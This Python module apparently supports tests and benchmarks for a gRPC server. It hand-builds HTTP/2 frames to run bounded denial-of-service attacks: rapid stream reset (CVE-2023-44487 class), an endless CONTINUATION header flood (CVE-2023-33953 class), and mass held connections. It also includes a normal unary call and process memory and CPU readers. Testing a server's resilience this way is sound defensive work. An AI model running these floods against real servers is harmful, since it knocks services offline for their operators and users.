"""Raw HTTP/2 attacks on a gRPC server, and a raw well-behaved call to check it.

Frames are written by hand (struct) and header blocks encoded with Debian's
python3-hpack, so the client sends exactly what an attacker would, which no
gRPC library does. Each attack is bounded by a duration and a frame count,
runs in the calling thread, and returns what it sent.

  rapid_reset         HEADERS then RST_STREAM(CANCEL) on stream after stream
                      of one connection, never reading (CVE-2023-44487 class)
  continuation_flood  one HEADERS without END_HEADERS, then CONTINUATION
                      frames that never end the header block
                      (CVE-2023-33953 class: unbounded HPACK work)
  hold_connections    many TCP connections, each past the HTTP/2 preface,
                      held open (file-descriptor exhaustion)
  grpc_unary          a well-behaved unary call with h2's state machine:
                      the grpc-status it ends with, or None

Used by the tests in this folder and by bench/front_proxy.py.
"""

import os
import socket
import struct
import time

import h2.config
import h2.connection
import h2.events
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x7, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8
INFO_PATH = "/rope.v1.RopeService/GetServerInfo"


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags,
                                                             stream_id) + payload


def grpc_headers(path=INFO_PATH, authority="ropeserve", extra=()):
    """A gRPC request's header block; never-indexed literals, so the same
    bytes are valid on any stream of any connection."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
               (":authority", authority), ("content-type", "application/grpc"),
               ("te", "trailers")] + list(extra)
    return hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers], huffman=False)


def open_connection(host, port, timeout=5.0, source=None):
    """A connected TCP socket with the client preface and an empty SETTINGS sent."""
    s = socket.create_connection((host, port), timeout=timeout,
                                 source_address=(source, 0) if source else None)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return s


def _send(sock, data, deadline):
    """sendall within `deadline`; False once the peer closed, reset or stalled us."""
    view = memoryview(data)
    while view:
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            return False
        sock.settimeout(remaining)
        try:
            n = sock.send(view)
        except (BrokenPipeError, ConnectionResetError, socket.timeout, OSError):
            return False
        view = view[n:]
    return True


class _GoawayWatch:
    """Reads what the server sent without blocking (and without acting on
    it: no WINDOW_UPDATE, no SETTINGS ack) only to notice a GOAWAY."""

    def __init__(self):
        self.buffer = b""

    def goaway(self, sock):
        try:
            sock.setblocking(False)
            while True:
                data = sock.recv(1 << 20)
                if not data:
                    return True
                self.buffer += data
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            return True
        finally:
            sock.setblocking(True)
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind = self.buffer[3]
            self.buffer = self.buffer[9 + length:]
            if kind == GOAWAY:
                return True
        return False


def rapid_reset(host, port, duration_s=5.0, max_streams=2_000_000, batch=200, with_data=False):
    """Opens and cancels streams on one connection, never reading a reply.
    When the server ends the connection (GOAWAY, close) a new one is opened,
    as an attacker would. Returns {"streams": opened, "connections": n,
    "closed_by_server": whether the server ended any connection}.
    `with_data`: each stream also sends the start of a message (an empty
    gRPC message, without END_STREAM) before its reset, so that a proxy
    waiting for a request body forwards it."""
    message = frame(DATA, 0, 0, b"\x00\x00\x00\x00\x00")[9:] if with_data else None
    block = grpc_headers()
    deadline = time.monotonic() + duration_s
    streams = 0
    connections = 0
    closed = False
    while time.monotonic() < deadline and streams < max_streams:
        try:
            sock = open_connection(host, port)
        except OSError:
            closed = True
            time.sleep(0.05)
            continue
        connections += 1
        stream_id = 1
        watch = _GoawayWatch()
        try:
            while time.monotonic() < deadline and streams < max_streams and stream_id < 2**31 - 2 * batch:
                chunk = bytearray()
                for _ in range(batch):
                    chunk += frame(HEADERS, END_HEADERS, stream_id, block)
                    if message is not None:
                        chunk += frame(DATA, 0, stream_id, message)
                    chunk += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
                    stream_id += 2
                if not _send(sock, chunk, deadline):
                    closed = closed or time.monotonic() < deadline
                    break
                streams += batch
                if watch.goaway(sock):
                    closed = True
                    break
        finally:
            sock.close()
    return {"streams": streams, "closed_by_server": closed, "connections": connections}


def continuation_flood(host, port, duration_s=5.0, max_frames=5_000_000, frame_bytes=16384):
    """One header block that never ends: HEADERS without END_HEADERS, then
    CONTINUATION frames of new literal headers until the time is up. Returns
    {"frames": sent, "bytes": sent, "closed_by_server": bool} (closed: the
    server refused the block and ended the connection)."""
    # Literal headers with incremental indexing, new names: each one costs
    # the decoder a table insertion (and an eviction once the table is full).
    def literals(n, start):
        out = bytearray()
        for i in range(start, start + n):
            name = b"x-%08d" % i
            value = b"v" * 16
            out += b"\x40" + bytes([len(name)]) + name + bytes([len(value)]) + value
        return bytes(out)

    per_frame = max(1, frame_bytes // 30)
    deadline = time.monotonic() + duration_s
    sock = open_connection(host, port)
    frames = 1
    sent = 0
    closed = False
    try:
        first = grpc_headers()
        if not _send(sock, frame(HEADERS, 0, 1, first), deadline):
            return {"frames": 0, "bytes": 0, "closed_by_server": True}
        counter = 0
        while time.monotonic() < deadline and frames < max_frames:
            payload = literals(per_frame, counter)
            counter += per_frame
            if not _send(sock, frame(CONTINUATION, 0, 1, payload), deadline):
                closed = time.monotonic() < deadline
                break
            frames += 1
            sent += len(payload) + 9
    finally:
        sock.close()
    return {"frames": frames, "bytes": sent, "closed_by_server": closed}


def hold_connections(host, port, count, timeout=5.0, source=None):
    """Opens up to `count` connections (preface sent), returns the sockets
    that connected; the caller closes them."""
    held = []
    for _ in range(count):
        try:
            held.append(open_connection(host, port, timeout=timeout, source=source))
        except OSError:
            break
    return held


def grpc_unary(host, port, path=INFO_PATH, message=b"", timeout_s=5.0, unix_path=None):
    """A well-behaved unary call on a fresh connection; its grpc-status (0:
    OK) or None when no status came back within `timeout_s`."""
    deadline = time.monotonic() + timeout_s
    try:
        if unix_path is not None:
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.settimeout(timeout_s)
            sock.connect(unix_path)
        else:
            sock = socket.create_connection((host, port), timeout=timeout_s)
    except OSError:
        return None
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                header_encoding="utf-8"))
    try:
        conn.initiate_connection()
        conn.send_headers(1, [(":method", "POST"), (":scheme", "http"), (":path", path),
                              (":authority", "ropeserve"),
                              ("content-type", "application/grpc"), ("te", "trailers"),
                              ("grpc-timeout", "%dm" % int(timeout_s * 1000))])
        conn.send_data(1, b"\x00" + struct.pack(">I", len(message)) + message, end_stream=True)
        sock.sendall(conn.data_to_send())
        while time.monotonic() < deadline:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                data = sock.recv(65536)
            except (socket.timeout, OSError):
                return None
            if not data:
                return None
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.DataReceived):
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                if isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
                    for key, value in event.headers:
                        if key == "grpc-status":
                            return int(value)
                if isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    return None
            out = conn.data_to_send()
            if out:
                sock.sendall(out)
        return None
    finally:
        sock.close()


def rss_bytes(pid):
    """VmRSS of `pid` in bytes (0 once it has exited)."""
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


def cpu_seconds(pid):
    """User + system CPU time of `pid` so far, in seconds."""
    try:
        with open("/proc/%d/stat" % pid) as f:
            fields = f.read().rsplit(")", 1)[1].split()
        ticks = os.sysconf("SC_CLK_TCK")
        return (int(fields[11]) + int(fields[12])) / ticks
    except (OSError, IndexError, ValueError):
        return 0.0
